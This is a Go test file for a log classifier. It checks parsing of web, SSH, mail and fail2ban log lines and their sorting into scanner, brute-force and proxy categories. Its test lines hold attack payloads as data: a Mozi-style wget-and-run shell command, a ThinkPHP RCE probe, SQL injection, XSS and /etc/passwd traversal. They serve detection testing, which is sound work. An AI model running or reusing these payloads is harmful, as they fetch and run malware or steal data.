package classify

import (
	"net/netip"
	"testing"
	"time"
)

func mustRules(t testing.TB, extra string) *Rules {
	t.Helper()
	rs, err := DefaultRuleSet()
	if err != nil {
		t.Fatal(err)
	}
	if extra != "" {
		over, err := ParseRules([]byte(extra), "test.yaml")
		if err != nil {
			t.Fatal(err)
		}
		rs.Merge(over)
	}
	r, err := rs.Compile()
	if err != nil {
		t.Fatal(err)
	}
	return r
}

var testNow = time.Date(2021, 3, 20, 12, 0, 0, 0, time.UTC)

type lineCase struct {
	name   string
	line   string
	format Format // expected detected format
	result string // "classified" unless set
	ip     string
	time   string // RFC 3339, "" to skip
	cat    Category
	rule   string
	window string
}

func runLineCases(t *testing.T, rules *Rules, opts Options, cases []lineCase) {
	t.Helper()
	if opts.Now.IsZero() {
		opts.Now = testNow
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ex := rules.Explain(tc.line, opts)
			want := tc.result
			if want == "" {
				want = "classified"
			}
			if ex.Result != want {
				t.Fatalf("result = %s (format %s), want %s", ex.Result, ex.Format, want)
			}
			if tc.format != FormatAuto && ex.Format != tc.format {
				t.Errorf("format = %s, want %s", ex.Format, tc.format)
			}
			if want != "classified" {
				return
			}
			if ex.IP != netip.MustParseAddr(tc.ip) {
				t.Errorf("ip = %s, want %s", ex.IP, tc.ip)
			}
			if tc.time != "" && ex.Time.Format(time.RFC3339) != tc.time {
				t.Errorf("time = %s, want %s", ex.Time.Format(time.RFC3339), tc.time)
			}
			if ex.Category != tc.cat || ex.Rule != tc.rule {
				t.Errorf("verdict = %s/%q, want %s/%q (matches %+v)", ex.Category, ex.Rule, tc.cat, tc.rule, ex.Matches)
			}
			if ex.Window != tc.window {
				t.Errorf("window = %q, want %q", ex.Window, tc.window)
			}
		})
	}
}

// Lines as real servers wrote them in the published examples this rule set
// was tuned on, with the placeholders filled in.
func TestPublishedExamples(t *testing.T) {
	rules := mustRules(t, "")
	const ff = `"-" "Mozilla/5.0 (Windows; U; Windows NT 6.0;en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6)"`
	cases := []lineCase{}
	for _, p := range []string{"/TP/public/index.php", "/TP/index.php", "/thinkphp/html/public/index.php",
		"/html/public/index.php", "/public/index.php", "/TP/html/public/index.php", "/elrekt.php"} {
		cases = append(cases, lineCase{name: "php scanner " + p, format: FormatAccess,
			line: `45.14.224.10 - - [13/Mar/2021:23:36:26 +0000] "GET ` + p + ` HTTP/1.1" 403 0 ` + ff,
			ip:   "45.14.224.10", time: "2021-03-13T23:36:26Z", cat: VulnScanner, rule: "probe-path"})
	}
	for _, p := range []string{"/phpMyAdmin/scripts/setup.php", "/phpmyadmin/scripts/setup.php", "/pma/scripts/setup.php",
		"/myadmin/scripts/setup.php", "/MyAdmin/scripts/setup.php", "/w00tw00t.at.blackhats.romanian.anti-sec:)"} {
		cases = append(cases, lineCase{name: "zmeu " + p, format: FormatAccess,
			line: `91.200.12.7 - - [13/Mar/2021:23:36:26 +0000] "GET ` + p + ` HTTP/1.1" 403 0 "-" "ZmEu"`,
			ip:   "91.200.12.7", cat: VulnScanner, rule: "scanner-user-agent"})
	}
	cases = append(cases,
		lineCase{name: "mozi rce", format: FormatAccess,
			line: `115.55.1.2 - - [13/Mar/2021:23:36:26 +0000] "GET /shell?cd+/tmp;rm+-rf+*;wget+http://115.55.1.2:34512/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1" 403 0 "-" "Hello, world"`,
			ip:   "115.55.1.2", cat: VulnScanner, rule: "scanner-user-agent"},
		lineCase{name: "morfeus garbled", format: FormatAccess,
			line: `62.210.10.1 - - [13/Mar/2021:23:36:26 +0000] "GET /user/soapCaller.bs – 403 0 203.0.113.1 "-" "Morfeus+Fucking+Scanner"`,
			ip:   "62.210.10.1", cat: VulnScanner, rule: "probe-path"},
		lineCase{name: "thinkphp", format: FormatAccess,
			line: `103.1.2.3 - - [13/Mar/2021:23:36:26 +0000] "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1" 403 3554 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"`,
			ip:   "103.1.2.3", cat: VulnScanner, rule: "php-rce-thinkphp"},
		lineCase{name: "masscan", format: FormatAccess,
			line: `192.0.2.99 - - [13/Mar/2021:23:36:26 +0000] "GET / HTTP/1.0" 403 0 "-" "masscan/1.0 (https://github.com/robertdavidgraham/masscan)"`,
			ip:   "192.0.2.99", cat: VulnScanner, rule: "scanner-user-agent"},
		lineCase{name: "leakix connect", format: FormatAccess,
			line: `198.51.100.4 - - [13/Mar/2021:23:36:26 +0000] "CONNECT leakix.net:443 HTTP/1.1" 403 0 "-" "Go-http-client/1.1"`,
			ip:   "198.51.100.4", cat: ProxyScanner, rule: "proxy-connect"},
		lineCase{name: "mail spam proxy", format: FormatAccess,
			line: `198.51.100.5 - - [13/Mar/2021:23:36:26 +0000] "CONNECT account.atresmedia.com:25 HTTP/1.1" 405 0 "-" "Java/1.8.0_271"`,
			ip:   "198.51.100.5", cat: ProxyScanner, rule: "proxy-connect"},
		lineCase{name: "poodle probe vhost", format: FormatAccess,
			line: `www.example.com:80 203.0.113.21 - - [01/Oct/2016:10:02:59 +0100] "\x16\x03\x02" 400 0 "-" "-"`,
			ip:   "203.0.113.21", time: "2016-10-01T09:02:59Z", cat: Noise, rule: "non-http-request"},
		lineCase{name: "poodle probe", format: FormatAccess,
			line: `203.0.113.21 - - [01/Oct/2016:10:07:03 +0100] "\x16\x03\x02" 400 0 "-" "-"`,
			ip:   "203.0.113.21", cat: Noise, rule: "non-http-request"},
		lineCase{name: "acunetix agent", format: FormatAccess,
			line: `203.0.113.246 - - [03/Oct/2016:09:52:42 +0100] "GET /about HTTP/1.1" 200 512 "-" "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21"`,
			ip:   "203.0.113.246", cat: VulnScanner, rule: "acunetix-user-agent"},
		lineCase{name: "file scheme", format: FormatAccess,
			line: `203.0.113.246 - - [03/Oct/2016:10:40:21 +0100] "GET /proxy?url=file:///etc/passwd HTTP/1.1" 500 0 "-" "Mozilla/5.0"`,
			ip:   "203.0.113.246", cat: VulnScanner, rule: "path-traversal"},
		lineCase{name: "encoded traversal", format: FormatAccess,
			line: `203.0.113.246 - - [03/Oct/2016:10:40:21 +0100] "GET /static/..%2f..%2f..%2fetc%2fpassword HTTP/1.1" 404 0 "-" "Mozilla/5.0"`,
			ip:   "203.0.113.246", cat: VulnScanner, rule: "path-traversal"},
		lineCase{name: "sshd disconnecting invalid user", format: FormatSyslog,
			line: `Mar 13 23:36:26 AppacheHTTPServer sshd[1234]: Disconnecting invalid user scan 198.51.100.77 port 51234: Change of username or service not allowed: (scan,ssh-connection) -> (service,ssh-connection) [preauth]`,
			ip:   "198.51.100.77", time: "2021-03-13T23:36:26Z", cat: BruteForce, rule: "ssh-dictionary-user"},
		lineCase{name: "sshd invalid user service", format: FormatSyslog,
			line: `Mar 13 23:36:26 AppacheHTTPServer sshd[1234]: Invalid user service from 198.51.100.77 port 51234`,
			ip:   "198.51.100.77", cat: BruteForce, rule: "ssh-dictionary-user"},
		lineCase{name: "sshd invalid user not in dictionary", format: FormatSyslog,
			line: `Mar 13 23:36:26 AppacheHTTPServer sshd[1234]: Invalid user zq7 from 198.51.100.77 port 51234`,
			ip:   "198.51.100.77", cat: Legit, window: "ssh"},
		lineCase{name: "sshd received disconnect", format: FormatSyslog,
			line: `Mar 13 23:36:26 AppacheHTTPServer sshd[1234]: Received disconnect from 198.51.100.77 port 51234:11:  [preauth]`,
			ip:   "198.51.100.77", cat: Legit},
		lineCase{name: "sshd authenticating root", format: FormatSyslog,
			line: `Mar 13 23:36:26 AppacheHTTPServer sshd[1234]: Disconnected from authenticating user root 198.51.100.77 port 51234 [preauth]`,
			ip:   "198.51.100.77", cat: Legit, window: "ssh"},
	)
	runLineCases(t, rules, Options{}, cases)
}

func TestAccessFormats(t *testing.T) {
	rules := mustRules(t, "site: {hosts: [example.com], public_paths: [/wp-login.php]}")
	runLineCases(t, rules, Options{}, []lineCase{
		{name: "common", format: FormatAccess, line: `127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326`,
			ip: "127.0.0.1", time: "2000-10-10T20:55:36Z", cat: Legit, rule: "login-success"},
		{name: "combined", format: FormatAccess, line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /a HTTP/1.1" 200 2326 "http://example.com/" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: Legit},
		{name: "ipv6", format: FormatAccess, line: `2001:db8::1 - - [10/Oct/2000:13:55:36 +0000] "GET /a HTTP/1.1" 200 1 "-" "curl/8"`,
			ip: "2001:db8::1", cat: Legit},
		{name: "ipv4-mapped", format: FormatAccess, line: `::ffff:203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /a HTTP/1.1" 200 1 "-" "curl/8"`,
			ip: "203.0.113.9", cat: Legit},
		{name: "zone id", format: FormatAccess, line: `fe80::1%eth0 - - [10/Oct/2000:13:55:36 +0000] "GET /a HTTP/1.1" 200 1 "-" "curl/8"`,
			ip: "fe80::1", cat: Legit},
		{name: "ip:port glued", format: FormatAccess, line: `203.0.113.9:51000 - - [10/Oct/2000:13:55:36 +0000] "GET /a HTTP/1.1" 200 1 "-" "curl/8"`,
			ip: "203.0.113.9", cat: Legit},
		{name: "vhost_combined", format: FormatAccess, line: `shop.example.com:443 203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /.env HTTP/1.1" 404 1 "-" "curl/8"`,
			ip: "203.0.113.9", cat: VulnScanner, rule: "sensitive-file"},
		{name: "public path is not a probe", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /wp-login.php HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: Legit},
		{name: "wp-login POST counts in the login window", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "POST /wp-login.php HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: Legit, window: "http_login"},
		{name: "401 counts in http window", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /admin HTTP/1.1" 401 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: Legit, window: "http"},
		{name: "absolute uri own host", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET http://example.com/ HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: Legit},
		{name: "absolute uri foreign host", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET http://www.baidu.com/ HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: ProxyScanner, rule: "proxy-absolute-uri"},
		{name: "empty request", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "-" 408 0 "-" "-"`,
			ip: "203.0.113.9", cat: Noise, rule: "empty-request"},
		{name: "rdp cookie", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr" 400 0 "-" "-"`,
			ip: "203.0.113.9", cat: Noise, rule: "non-http-request"},
		{name: "googlebot", line: `66.249.66.1 - - [10/Oct/2000:13:55:36 +0000] "GET /robots.txt HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"`,
			ip: "66.249.66.1", cat: GoodBot, rule: "verified-crawler"},
		{name: "sqli", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: VulnScanner, rule: "sql-injection"},
		{name: "xss", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: VulnScanner, rule: "xss"},
		{name: "escaped quote in request", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /a\"b HTTP/1.1" 200 1 "-" "sqlmap/1.5"`,
			ip: "203.0.113.9", cat: VulnScanner, rule: "scanner-user-agent"},
		{name: "ip in url is not the source", line: `203.0.113.9 - - [10/Oct/2000:13:55:36 +0000] "GET /redirect?to=198.51.100.1 HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
			ip: "203.0.113.9", cat: Legit},
		{name: "bad time", result: "bad_time", line: `203.0.113.9 - - [99/Foo/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "x"`},
		{name: "not a log line", result: "malformed", line: `hello world`},
		{name: "binary", result: "binary", line: "\x00\x01\x02garbage\x7f"},
		{name: "empty", result: "empty", line: "   "},
	})
}

func TestTrustedProxies(t *testing.T) {
	rules := mustRules(t, "")
	opts := Options{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}}
	runLineCases(t, rules, opts, []lineCase{
		{name: "trusted proxy", line: `10.0.0.5 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "x" "203.0.113.7"`, ip: "203.0.113.7"},
		{name: "trusted chain with forged left entry", line: `10.0.0.5 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "x" "6.6.6.6, 203.0.113.7, 10.1.1.1"`, ip: "203.0.113.7"},
		{name: "untrusted peer header ignored", line: `198.51.100.9 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "x" "203.0.113.7"`, ip: "198.51.100.9"},
		{name: "garbage header", line: `10.0.0.5 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "x" "<script>"`, ip: "10.0.0.5"},
		{name: "dash header", line: `10.0.0.5 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "x" "-"`, ip: "10.0.0.5"},
	})
}

func TestAuthLogs(t *testing.T) {
	rules := mustRules(t, "")
	runLineCases(t, rules, Options{Location: time.UTC}, []lineCase{
		{name: "rfc3164 failed password", format: FormatSyslog, line: `Mar  3 09:52:42 web sshd[812]: Failed password for root from 203.0.113.50 port 40000 ssh2`,
			ip: "203.0.113.50", time: "2021-03-03T09:52:42Z", window: "ssh"},
		{name: "december line in a march file is last year", line: `Dec 31 23:59:59 web sshd[812]: Failed password for root from 203.0.113.50 port 40000 ssh2`,
			ip: "203.0.113.50", time: "2020-12-31T23:59:59Z", window: "ssh"},
		{name: "pri prefix", line: `<38>Mar  3 09:52:42 web sshd[812]: Failed password for invalid user admin from 203.0.113.50 port 40000 ssh2`,
			ip: "203.0.113.50", cat: BruteForce, rule: "ssh-dictionary-user"},
		{name: "iso rsyslog", line: `2021-03-03T09:52:42.123456+01:00 web sshd[812]: Invalid user oracle from 203.0.113.51 port 40000`,
			ip: "203.0.113.51", time: "2021-03-03T08:52:42Z", cat: BruteForce, rule: "ssh-dictionary-user"},
		{name: "journalctl short-iso", line: `2021-03-03T09:52:42+0100 web sshd[812]: Failed password for alice from 203.0.113.52 port 40000 ssh2`,
			ip: "203.0.113.52", time: "2021-03-03T08:52:42Z", window: "ssh"},
		{name: "rfc5424", line: `<38>1 2021-03-03T09:52:42.003Z web sshd 812 - - Failed password for alice from 203.0.113.53 port 40000 ssh2`,
			ip: "203.0.113.53", time: "2021-03-03T09:52:42Z", window: "ssh"},
		{name: "rfc5424 structured data", line: `<38>1 2021-03-03T09:52:42Z web sshd 812 ID47 [exampleSDID@32473 iut="3"] Accepted publickey for alice from 203.0.113.54 port 40000 ssh2`,
			ip: "203.0.113.54", rule: "login-success"},
		{name: "sshd-session accepted", line: `Mar  3 09:52:42 web sshd-session[812]: Accepted password for alice from 203.0.113.55 port 40000 ssh2`,
			ip: "203.0.113.55", rule: "login-success"},
		{name: "user name with forged from", line: `Mar  3 09:52:42 web sshd[812]: Failed password for invalid user x from 6.6.6.6 port 1 from 203.0.113.56 port 40000 ssh2`,
			ip: "203.0.113.56", window: "ssh"},
		{name: "too many failures", line: `Mar  3 09:52:42 web sshd[812]: error: maximum authentication attempts exceeded for root from 203.0.113.57 port 40000 ssh2 [preauth]`,
			ip: "203.0.113.57", cat: BruteForce, rule: "ssh-too-many-failures"},
		{name: "no identification", line: `Mar  3 09:52:42 web sshd[812]: Did not receive identification string from 203.0.113.58 port 40000`,
			ip: "203.0.113.58", cat: Noise, rule: "ssh-probe"},
		{name: "unable to negotiate", line: `Mar  3 09:52:42 web sshd[812]: Unable to negotiate with 203.0.113.59 port 40000: no matching key exchange method found. [preauth]`,
			ip: "203.0.113.59", cat: Noise, rule: "ssh-probe"},
		{name: "pam failure", line: `Mar  3 09:52:42 web sshd[812]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.60  user=root`,
			ip: "203.0.113.60", window: "ssh"},
		{name: "message repeated", line: `Mar  3 09:52:42 web sshd[812]: message repeated 2 times: [ Failed password for root from 203.0.113.61 port 40000 ssh2]`,
			ip: "203.0.113.61", window: "ssh"},
		{name: "cron ignored", result: "ignored", line: `Mar  3 09:52:42 web CRON[99]: pam_unix(cron:session): session opened for user root by (uid=0)`},
		{name: "sshd without address ignored", result: "ignored", line: `Mar  3 09:52:42 web sshd[1]: Server listening on 0.0.0.0 port 22.`},
		{name: "journal banner ignored", result: "ignored", format: FormatSyslog, line: `-- Logs begin at Mon 2021-03-01 00:00:00 UTC, end at Wed 2021-03-03 10:00:00 UTC. --`},
		{name: "postfix sasl", line: `Mar  3 09:52:42 mx postfix/smtpd[2222]: warning: unknown[203.0.113.70]: SASL LOGIN authentication failed: UGFzc3dvcmQ6`,
			ip: "203.0.113.70", window: "mail"},
		{name: "postfix submission sasl", line: `Mar  3 09:52:42 mx postfix/submission/smtpd[2222]: warning: host.example[203.0.113.71]: SASL PLAIN authentication failed: authentication failure`,
			ip: "203.0.113.71", window: "mail"},
		{name: "postfix connect", line: `Mar  3 09:52:42 mx postfix/smtpd[2222]: connect from unknown[203.0.113.72]`, ip: "203.0.113.72"},
		{name: "dovecot auth failed", line: `Mar  3 09:52:42 mx dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<info>, method=PLAIN, rip=203.0.113.80, lip=192.0.2.1, TLS, session=<abc>`,
			ip: "203.0.113.80", window: "mail"},
		{name: "dovecot own log", line: `Mar 03 09:52:42 imap-login: Info: Aborted login (auth failed, 1 attempts in 2 secs): user=<bob>, method=PLAIN, rip=203.0.113.81, lip=192.0.2.1`,
			ip: "203.0.113.81", window: "mail"},
		{name: "dovecot unknown dictionary user", line: `Mar  3 09:52:42 mx dovecot: auth: passwd-file(admin,203.0.113.82): unknown user`,
			ip: "203.0.113.82", cat: BruteForce, rule: "ssh-dictionary-user"},
		{name: "dovecot pam session", line: `Mar  3 09:52:42 mx dovecot: auth-worker(9): pam(bob,203.0.113.83,<sess>): pam_authenticate() failed: Authentication failure (password mismatch?)`,
			ip: "203.0.113.83", window: "mail"},
		{name: "dovecot login", line: `Mar  3 09:52:42 mx dovecot: imap-login: Login: user=<bob>, method=PLAIN, rip=203.0.113.84, lip=192.0.2.1, mpid=1`,
			ip: "203.0.113.84", rule: "login-success"},
		{name: "fail2ban ban", format: FormatFail2ban, line: `2021-03-03 09:52:43,456 fail2ban.actions        [1234]: NOTICE  [sshd] Ban 203.0.113.90`,
			ip: "203.0.113.90", time: "2021-03-03T09:52:43Z", cat: BruteForce, rule: "sshd"},
		{name: "fail2ban found", format: FormatFail2ban, line: `2021-03-03 09:52:42,123 fail2ban.filter         [1234]: INFO    [postfix-sasl] Found 203.0.113.91 - 2021-03-03 09:52:42`,
			ip: "203.0.113.91", window: "fail2ban"},
		{name: "fail2ban unban ignored", result: "ignored", line: `2021-03-03 09:52:42,123 fail2ban.actions         [1234]: NOTICE  [sshd] Unban 203.0.113.91`},
	})
}

func TestErrorLogs(t *testing.T) {
	rules := mustRules(t, "")
	runLineCases(t, rules, Options{Location: time.UTC}, []lineCase{
		{name: "apache 2.4 invalid uri", format: FormatApacheError, line: `[Sat Oct 01 10:02:59.123456 2016] [core:error] [pid 123:tid 456] [client 203.0.113.9:5678] AH00126: Invalid URI in request GET /../../etc/passwd HTTP/1.1`,
			ip: "203.0.113.9", time: "2016-10-01T10:02:59Z", cat: VulnScanner, rule: "path-traversal"},
		{name: "apache 2.2 file does not exist", format: FormatApacheError, line: `[Sat Oct 01 10:02:59 2016] [error] [client 203.0.113.9] File does not exist: /var/www/phpmyadmin`,
			ip: "203.0.113.9", cat: VulnScanner, rule: "probe-path"},
		{name: "apache auth failure", line: `[Sat Oct 01 10:02:59.1 2016] [auth_basic:error] [pid 1] [client 203.0.113.10:5] AH01617: user admin: authentication failure for "/private": Password Mismatch`,
			ip: "203.0.113.10", window: "basic_auth"},
		{name: "apache ipv6 client", line: `[Sat Oct 01 10:02:59.1 2016] [core:error] [pid 1] [client 2001:db8::7:5678] AH01630: client denied by server configuration: /srv/x`,
			ip: "2001:db8::7"},
		{name: "apache notice ignored", result: "ignored", line: `[Sat Oct 01 10:02:59.1 2016] [mpm_event:notice] [pid 1:tid 2] AH00489: Apache/2.4.41 (Ubuntu) configured -- resuming normal operations`},
		{name: "nginx open failed", format: FormatNginxError, line: `2016/10/03 09:52:42 [error] 123#123: *45 open() "/usr/share/nginx/html/.env" failed (2: No such file or directory), client: 203.0.113.11, server: example.com, request: "GET /.env HTTP/1.1", host: "example.com"`,
			ip: "203.0.113.11", time: "2016-10-03T09:52:42Z", cat: VulnScanner, rule: "sensitive-file"},
		{name: "nginx basic auth", line: `2016/10/03 09:52:42 [error] 123#123: *46 user "admin": password mismatch, client: 203.0.113.12, server: example.com, request: "GET /admin HTTP/1.1", host: "example.com"`,
			ip: "203.0.113.12", window: "basic_auth"},
		{name: "nginx no client ignored", result: "ignored", line: `2016/10/03 09:52:42 [notice] 1#1: signal process started`},
	})
}

func TestCSVLines(t *testing.T) {
	rules := mustRules(t, "")
	runLineCases(t, rules, Options{}, []lineCase{
		{name: "header", result: "ignored", line: "time,ip,threat,risk,rule,source"},
		{name: "row", format: FormatCSV, line: "2021-03-13T23:36:26Z,203.0.113.5,vuln_scanner,5,probe-path,access.log",
			ip: "203.0.113.5", time: "2021-03-13T23:36:26Z", cat: VulnScanner, rule: "probe-path"},
	})
}

func TestQuoted(t *testing.T) {
	for _, tc := range []struct {
		in, field, rest string
		ok              bool
	}{
		{`"GET / HTTP/1.1" 200`, `GET / HTTP/1.1`, ` 200`, true},
		{`"" "-"`, ``, ` "-"`, true},
		{`"a \"b\" c" x`, `a \"b\" c`, ` x`, true},
		{`"a\\" x`, `a\\`, ` x`, true},         // an escaped backslash ends before the quote
		{`"a\\\" b" x`, `a\\\" b`, ` x`, true}, // then an escaped quote
		{`"unterminated`, `unterminated`, ``, true},
		{`"`, ``, ``, true},
		{`plain "x"`, ``, `plain "x"`, false},
		{``, ``, ``, false},
	} {
		field, rest, ok := quoted([]byte(tc.in))
		if string(field) != tc.field || string(rest) != tc.rest || ok != tc.ok {
			t.Errorf("quoted(%q) = %q, %q, %v; want %q, %q, %v", tc.in, field, rest, ok, tc.field, tc.rest, tc.ok)
		}
	}
}
